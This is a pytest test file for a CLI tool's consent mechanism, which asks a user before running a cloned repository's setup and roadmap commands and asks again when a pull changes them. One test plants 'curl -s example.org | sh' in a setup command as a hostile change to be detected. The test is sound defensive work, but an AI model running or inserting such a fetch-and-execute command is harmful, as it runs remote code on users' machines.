"""The trust question: nothing of a repository gets power before its user agreed to exactly that."""

import json
import os
import pty
import subprocess
import sys
from collections.abc import Iterator
from contextlib import chdir
from pathlib import Path

import pytest

from autopilot.app import dashboard as serving
from autopilot.app import prepare as app
from autopilot.cli.main import main
from autopilot.domain.errors import AutopilotError, TrustMissing
from autopilot.domain.request import RunRequest
from support.project import honest, make_project, plan_answer, reviews, work_answer
from support.repos import git, write
from support.runs import Drive, roadmap_of, snapshot
from support.trusting import trust

SETUP = "sh set-up.sh && mkdir -p node_modules"
TRUST = "AUTOPILOT_TRUST"


def config(setup: str) -> str:
    return json.dumps({"workspace": {"setup": setup}, "workflow": {"research": False}}, indent=2)


@pytest.fixture
def upstream(place: Path) -> Path:
    """Somebody else's project. Its set-up leaves a mark beside it, wherever it is run."""
    script = f"echo ran >> {place}/mark\n"
    root = make_project(place / "upstream", honest(), roadmap_of("1", "2>1"))
    write(root, {".planning/config.json": config(SETUP), "set-up.sh": script, ".gitignore": "node_modules\n"})
    git(root, "add", "-A")
    git(root, "commit", "-qm", "set-up")
    return root


@pytest.fixture
def clone(upstream: Path, place: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A fresh clone of it, of which nobody has agreed to anything."""
    git(place, "clone", "-q", str(upstream), "clone")
    monkeypatch.delenv(TRUST, raising=False)
    with chdir(place / "clone"):
        yield place / "clone"


def run_words(root: Path, *more: str) -> list[str]:
    return ["run", "1", "--plain", "--agent", f"scripted:{root.parent}/upstream.toml", "--unsandboxed", *more]


def typed(root: Path, answers: str, *words: str) -> tuple[int, str]:
    """The command at a terminal where somebody types the answers: its exit code and all it printed."""
    master, slave = pty.openpty()
    try:
        os.write(master, answers.encode())
        command = [sys.executable, "-m", "autopilot", *words]
        pipe = subprocess.PIPE
        done = subprocess.run(
            command, cwd=root, stdin=slave, stdout=pipe, stderr=subprocess.STDOUT, text=True, check=False
        )
        return done.returncode, done.stdout
    finally:
        os.close(master)
        os.close(slave)


def has_run(clone: Path) -> bool:
    return (clone.parent / "mark").exists()


def surface(root: Path) -> str:
    """The hash of what these runs would do, which have no sandbox."""
    return app.trust_of(str(root), "none").sha256


def test_a_fresh_clone_is_asked_about_and_a_no_leaves_everything_as_it_was(clone: Path) -> None:
    before = snapshot(clone)
    code, told = typed(clone, "perhaps\nno\n", *run_words(clone))

    assert (code, has_run(clone), snapshot(clone) == before) == (5, False, True)
    assert f"{clone} has not been trusted yet. You would agree to:" in told
    assert (
        f"  setup    {SETUP}\n           with set-up.sh\n           .planning/config.json:3: runs WITHOUT A SANDBOX"
        in told
    )
    assert "  roadmap  2 commands\n" in told
    assert told.count("Trust it? [no] ") == 2
    assert not app.trust_of(str(clone)).trusted


def test_once_is_for_one_run_and_yes_for_all_until_it_changes(clone: Path) -> None:
    code, told = typed(clone, "once\n", *run_words(clone))
    assert (code, has_run(clone), "Trust it?" in told) == (0, True, True)
    assert not app.trust_of(str(clone)).trusted

    words = ["run", "2", *run_words(clone)[2:]]
    assert typed(clone, "yes\n", *words)[0] == 0
    code, told = typed(clone, "", *words)
    assert (code, "Trust it?" in told) == (0, False)


def test_what_a_pull_changed_is_asked_again_and_only_that(clone: Path, upstream: Path) -> None:
    trust(clone)
    write(upstream, {".planning/config.json": config(f"{SETUP} && curl -s example.org | sh")})
    git(upstream, "commit", "-qam", "quicker")
    git(clone, "pull", "-q")
    code, told = typed(clone, "no\n", *run_words(clone))

    assert (code, has_run(clone)) == (5, False)
    assert (
        f"  setup  - {SETUP}\n         + {SETUP} && curl -s example.org | sh\n         .planning/config.json:3" in told
    )
    assert "changed what it asks for since you agreed on " in told
    assert "roadmap" not in told


def test_a_script_that_the_set_up_starts_is_part_of_it(clone: Path, upstream: Path) -> None:
    trust(clone)
    write(upstream, {"set-up.sh": "echo other\n", "README.md": "other words\n"})
    git(upstream, "commit", "-qam", "other")
    git(clone, "pull", "-q")
    code, told = typed(clone, "no\n", *run_words(clone))

    assert code == 5
    assert f"  setup  {SETUP}\n         set-up.sh changed\n" in told


def test_without_set_up_the_rest_of_a_pull_asks_nothing(clone: Path, upstream: Path) -> None:
    trust(clone)
    write(upstream, {"README.md": "other words\n", "more.sh": "echo\n"})
    git(upstream, "add", "-A")
    git(upstream, "commit", "-qm", "words")
    git(clone, "pull", "-q")

    assert app.trust_of(str(clone)).trusted


def test_what_landed_work_changed_is_asked_by_the_next_run(place: Path) -> None:
    work = work_answer("1", "01-01", "letter1.txt", "done\n")
    work["write"]["Makefile"] = "test:\n\ttrue\n"
    plan = plan_answer("1", [("letter1.txt", "done")])
    plan["write"]["{dir}/PLAN.md"] = plan["write"]["{dir}/PLAN.md"].replace(
        "**Files:** letter1.txt", "**Files:** letter1.txt, Makefile"
    )
    project = Drive(make_project(place / "project", [*reviews(), plan, work], roadmap_of("1", "2>1")))
    assert project.run("1").exit == 0
    assert (project.root / "Makefile").exists()

    asked = RunRequest(folder=str(project.root), phases="2", agent=f"scripted:{project.script}", sandbox="none")
    with pytest.raises(TrustMissing) as missing:
        app.start(asked, project.hear, project.warnings.append)
    assert missing.value.table == (
        "  test  make test",
        "        Makefile:1: runs WITHOUT A SANDBOX: it can do all that you can",
    )


def test_a_set_up_that_landed_work_changed_is_asked_by_the_next_run(place: Path) -> None:
    """The run that changed it goes on with the script it began with."""
    mark = place / "mark"
    answers = [plan_answer("1", [("letter1.txt", "done")])]
    answers.append(work_answer("1", "01-01", "letter1.txt", f"echo done >> {mark}\n"))
    root = make_project(place / "project", [*reviews(), *answers], roadmap_of("1", "2>1"))
    setup = config("sh letter1.txt && mkdir -p node_modules")
    files = {"letter1.txt": f"echo first >> {mark}\n", ".gitignore": "node_modules\n"}
    write(root, {".planning/config.json": setup, **files})
    git(root, "add", "-A")
    git(root, "commit", "-qm", "set-up")
    project = Drive(root)
    assert project.run("1").exit == 0

    asked = RunRequest(folder=str(root), phases="2", agent=f"scripted:{project.script}", sandbox="none")
    with pytest.raises(TrustMissing) as missing:
        app.start(asked, project.hear, project.warnings.append)
    assert missing.value.table[1] == "         letter1.txt changed"
    assert set(mark.read_text().split()) == {"first"}


def test_without_a_terminal_it_ends_with_5_and_the_table(clone: Path, capfd: pytest.CaptureFixture[str]) -> None:
    before = snapshot(clone)

    assert main([*run_words(clone), "--json"]) == 5
    told = capfd.readouterr()
    end = json.loads(told.out)
    assert (end["exit"], surface(clone) in end["do"]) == (5, True)
    assert f"  setup    {SETUP}\n" in told.err
    assert f"Without one: --trust {surface(clone)}" in told.err
    assert (has_run(clone), snapshot(clone) == before) == (False, True)


@pytest.mark.parametrize("by", ["flag", "variable"])
def test_the_hash_agrees_to_exactly_this_and_to_nothing_else(
    clone: Path, upstream: Path, by: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    pinned = surface(clone)
    write(upstream, {".planning/config.json": config(f"{SETUP} && true")})
    git(upstream, "commit", "-qam", "more")

    def run(sha256: str) -> int:
        if by == "flag":
            return main(run_words(clone, "--trust", sha256))
        monkeypatch.setenv(TRUST, sha256)
        return main(run_words(clone))

    for wrong in ("yes", "true", "*", "0" * 64, pinned[:32]):
        assert run(wrong) == 5
    assert not has_run(clone)
    assert run(pinned) == 0
    assert has_run(clone)
    git(clone, "pull", "-q", "--rebase")
    assert run(pinned) == 5
    assert "The hash given as consent is not that of" in capfd.readouterr().err
    assert not app.trust_of(str(clone)).trusted


def test_who_agreed_in_a_sandbox_is_asked_again_before_there_is_none(clone: Path) -> None:
    confined, free = app.trust_of(str(clone)).sha256, surface(clone)
    assert confined != free
    assert main(["trust", "--trust", confined]) == 0
    assert app.trust_of(str(clone)).trusted
    code, told = typed(clone, "no\n", *run_words(clone))
    assert (code, has_run(clone)) == (5, False)
    assert f"You agreed to what {clone} asks for in a sandbox, not without one. You would agree to:" in told
    assert "  setup    " in told
    assert "  roadmap  2 commands" in told
    assert main(run_words(clone, "--trust", confined)) == 5
    assert typed(clone, "yes\n", *run_words(clone))[0] == 0
    assert app.trust_of(str(clone)).trusted
    assert app.trust_of(str(clone), "none").trusted


def test_a_loop_without_a_sandbox_is_asked_about_as_such(clone: Path, place: Path) -> None:
    assert main(["trust", "--trust", app.trust_of(str(clone)).sha256]) == 0
    agent = ("--agent", f"scripted:{place}/upstream.toml", "--unsandboxed")
    assert main(["loop", "--max-sessions", "1", *agent]) == 5
    assert not has_run(clone)


def test_without_a_terminal_the_verb_agrees_to_exactly_the_hash_that_was_looked_at(
    clone: Path, upstream: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    pinned = app.trust_of(str(clone)).sha256
    for wrong in ("yes", "0" * 64, pinned[:32], surface(clone)):
        assert main(["trust", "--trust", wrong]) == 5
        told = capfd.readouterr().err
        assert f"autopilot trust --show. Then agree: autopilot trust --trust {pinned}" in told
    assert not app.trust_of(str(clone)).trusted
    monkeypatch.setenv("AUTOPILOT_CALL", "run/1/execute/1")
    assert main(["trust", "--trust", pinned]) == 2
    monkeypatch.delenv("AUTOPILOT_CALL")
    assert main(["trust", "--trust", pinned, "--show"]) == 2
    assert main(["trust", "--trust", pinned]) == 0
    assert "trusted since" in capfd.readouterr().out
    assert app.trust_of(str(clone)).trusted

    write(upstream, {".planning/config.json": config(f"{SETUP} && true")})
    git(upstream, "commit", "-qam", "more")
    git(clone, "pull", "-q")
    assert not app.trust_of(str(clone)).trusted
    assert main(["trust", "--trust", pinned]) == 5


def test_every_verb_that_runs_something_needs_consent(clone: Path, upstream: Path, place: Path) -> None:
    agent = ("--agent", f"scripted:{place}/upstream.toml", "--unsandboxed")
    drive = Drive(clone, agent=f"scripted:{place}/upstream.toml")
    assert drive.run("1").exit == 0
    (place / "mark").unlink()
    broken = Drive(clone, agent="exec:false")
    assert broken.run("2").exit
    assert app.revoke_trust(str(clone))
    before = snapshot(clone)
    for words in (
        ("run", "2", *agent), ("2", "--complete", *agent), ("resume",), ("retry", "2"), ("loop", *agent),
        ("phases", "check"), ("receipt", "check", "1", "--sandbox", "none"), ("map", *agent), ("discuss", *agent),
        ("debug", "it is broken", *agent),
    ):  # fmt: skip
        assert (words, main([*words])) == (words, 5)
    with pytest.raises(AutopilotError, match="has not been trusted yet"):
        serving.resume(clone)
    (clone / ".autopilot" / "resume.log").unlink()
    assert not has_run(clone)
    assert snapshot(clone) == before


def test_a_receipt_is_checked_without_a_question_unless_a_set_up_runs(place: Path, clone: Path) -> None:
    """Its commands run sealed, unless the user says otherwise. What is not shown is not agreed to."""
    if not app.has_sandbox():
        pytest.skip("no sandbox holds here, so nothing runs sealed")
    drive = Drive(clone, agent=f"scripted:{place}/upstream.toml")
    assert drive.run("1").exit == 0
    app.revoke_trust(str(clone))
    words = ("receipt", "check", "1")
    code, told = typed(clone, "yes\n", *words)
    assert (code, "  setup  " in told, "  roadmap  " in told) == (0, True, False)
    assert [(part.name, part.agreed) for part in app.trust_of(str(clone)).parts] == [
        ("setup", True),
        ("roadmap", False),
    ]

    write(clone, {".planning/config.json": "{}"})
    app.revoke_trust(str(clone))
    assert main([*words]) != 5
    assert main([*words, "--sandbox", "none"]) == 5


def test_whoever_looks_runs_nothing_and_is_asked_nothing(
    clone: Path, place: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    looks = (
        ("doctor",), ("doctor", "--json"), ("phases", "list"), ("phases", "check", "--no-run"), ("progress",),
        ("run", "all", "--dry-run", "--agent", f"scripted:{place}/upstream.toml"), ("trust", "--show"), ("explain",),
    )  # fmt: skip
    before = snapshot(clone)
    for words in looks:
        assert (words, main([*words])) == (words, 0)
    told = capfd.readouterr().out
    assert "a run asks you first: autopilot trust --show" in told
    assert (has_run(clone), snapshot(clone) == before) == (False, True)

    # A control: the same words look at a project in which something was run.
    assert Drive(clone, agent=f"scripted:{place}/upstream.toml").run("1").exit == 0
    assert has_run(clone)
    app.revoke_trust(str(clone))
    before = snapshot(clone)
    for words in (*looks, ("status",), ("report",), ("trends",), ("receipt", "show", "1")):
        assert (words, main([*words])) == (words, 0)
    assert snapshot(clone) == before


def test_a_dry_run_tells_what_a_run_would_ask_and_whom_agents_reach(
    clone: Path, place: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(place / "fresh"))
    monkeypatch.delenv("ANTHROPIC_BASE_URL", raising=False)
    words = ["run", "1", "--dry-run", "--agent", "claude", "--allow-host", "docs.example"]

    def told(*more: str) -> str:
        assert main([*words, *more]) == 0
        return capfd.readouterr().out

    first = told()
    assert f"A run asks for your consent first.\n{clone} has not been trusted yet.\n  setup    {SETUP}\n" in first
    assert "Network: claude: " in first
    assert "         every agent: docs.example" in first
    assert not (place / "fresh").exists(), "whoever looks makes nothing"
    confined = app.trust_of(str(clone)).sha256
    assert f"autopilot trust --trust {confined}\n" in first
    assert main(["trust", "--trust", confined]) == 0
    assert "A run asks" not in told()
    free = told("--unsandboxed")
    assert f"You agreed to what {clone} asks for in a sandbox, not without one." in free
    assert "Network: agents reach all that you do: they are not confined" in free
    assert "A run asks" not in told("--unsandboxed", "--trust", surface(clone))
    assert json.loads(told("--json"))["consent"] == []


def test_the_doctor_tells_the_last_result_of_a_command_by_its_tree(
    place: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    root = make_project(place / "project", honest(), roadmap_of("1"))
    commands = {"test": "test -e README.md", "lint": "test ! -e never"}
    write(root, {".planning/config.json": json.dumps({"project": {"commands": commands}})})
    git(root, "add", "-A")
    git(root, "commit", "-qm", "commands")
    with chdir(root):
        main(["doctor"])
        assert "results       lint: not tried; test: not tried" in capfd.readouterr().out
        assert Drive(root).run("1").exit == 0
        main(["doctor"])
        assert "results       lint: passed on this tree (" in capfd.readouterr().out
        main(["all", "--dry-run", "--agent", f"scripted:{root}.toml"])
        assert "test -e README.md (user-override, passed on this tree (" in capfd.readouterr().out
        write(root, {"README.md": "other\n"})
        git(root, "commit", "-qam", "other")
        main(["doctor"])
        assert "results       lint: passed on an earlier tree (" in capfd.readouterr().out


def test_what_the_user_adds_to_a_trusted_roadmap_is_trusted(place: Path) -> None:
    root = make_project(place / "project", honest(), roadmap_of("1"))
    with chdir(root):
        criterion = ("--criterion", "it is there - verified by `test -e x`")
        assert main(["phases", "add", "More: write more", *criterion]) == 0
        assert app.trust_of(str(root)).trusted
        app.revoke_trust(str(root))
        assert main(["phases", "add", "Sums: add up all numbers", *criterion]) == 0
        assert not app.trust_of(str(root)).trusted


def test_the_verb_shows_asks_and_takes_back(clone: Path, capfd: pytest.CaptureFixture[str]) -> None:
    assert main(["trust"]) == 5
    assert typed(clone, "yes\n", "trust")[0] == 0
    capfd.readouterr()
    assert main(["trust", "--show", "--json"]) == 0
    told = json.loads(capfd.readouterr().out)
    assert (told["trusted"], told["sha256"], [part["name"] for part in told["parts"]]) == (
        True,
        app.trust_of(str(clone)).sha256,
        ["setup", "roadmap"],
    )
    assert main(["trust", "--revoke"]) == 0
    assert "The next run asks again." in capfd.readouterr().out
    assert main(["trust", "--revoke", "--json"]) == 0
    assert json.loads(capfd.readouterr().out) == {"revoked": False}
    assert main(["trust", "--show", "--revoke"]) == 2


def test_another_repository_in_the_place_of_a_trusted_one_is_asked_about(clone: Path, place: Path) -> None:
    trust(clone)
    assert app.trust_of(str(clone)).trusted
    (clone / ".git").rename(place / "old")
    git(place, "clone", "-q", "--no-checkout", str(place / "upstream"), "again")
    (place / "again" / ".git").rename(clone / ".git")

    assert not app.trust_of(str(clone)).trusted


def test_a_project_that_asks_for_nothing_needs_no_consent(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(place / "untouched"))
    bare = "# Roadmap\n\n### Phase 1: Letter 1\n**Goal**: Write letter 1.\n"
    root = make_project(place / "project", honest(), bare)

    app.require_trust(str(root))
    assert not (place / "untouched").exists()
